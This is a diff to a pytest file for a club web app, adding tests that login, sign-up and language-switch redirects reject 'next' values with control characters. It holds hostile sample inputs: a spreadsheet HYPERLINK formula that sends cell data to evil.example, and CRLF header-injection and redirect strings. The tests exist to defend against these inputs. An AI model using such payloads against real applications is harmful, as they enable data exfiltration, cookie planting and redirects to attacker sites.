@@ -9,7 +9,7 @@ import pytest
 
 from clubapp.models import Referral, Role
 from tests import factories
-from tests.conftest import bearer, log_in
+from tests.conftest import TEST_PASSWORD, bearer, log_in, submit
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -61,3 +61,29 @@ def test_every_csv_export_neutralises_a_formula_name(app, club, president):
 
 def test_amounts_stay_numbers_in_the_referrals_export(app, club, president):
     assert "900.00" in cells(exports(app, club, president)["referrals web"])
+
+
+# `next` redirects: control characters never reach the Location header
+
+BAD_NEXT = ["/clubs\r\nSet-Cookie: planted=1", "/clubs\nX-Evil: 1", "/clubs\r", "/\t/evil.example", "/\n/evil.example"]
+
+
+@pytest.mark.parametrize("target", BAD_NEXT)
+def test_login_with_a_control_character_in_next_goes_to_the_dashboard(app, db, target):
+    user = factories.UserFactory()
+    web = app.test_client()
+    response = submit(web, "/auth/login", {"email": user.email, "password": TEST_PASSWORD, "next": target})
+    assert response.status_code == 302 and response.location.endswith("/dashboard")
+    assert "planted" not in response.headers.get("Set-Cookie", "")
+    assert web.get("/dashboard").status_code == 200  # signed in
+
+
+@pytest.mark.parametrize("target", BAD_NEXT[:2])
+def test_sign_up_and_language_switch_refuse_such_next_values(app, db, target):
+    web = app.test_client()
+    response = submit(web, "/auth/signup", {"email": "new.member@example.fr", "password": TEST_PASSWORD,
+                                            "name": "Nouveau Membre", "timezone": "Europe/Paris", "locale": "fr",
+                                            "next": target})
+    assert response.status_code == 302 and response.location.endswith("/dashboard")
+    response = submit(web, "/dashboard", {"lang": "en", "next": target}, action="/language")
+    assert response.status_code == 302 and response.location.endswith("/dashboard")
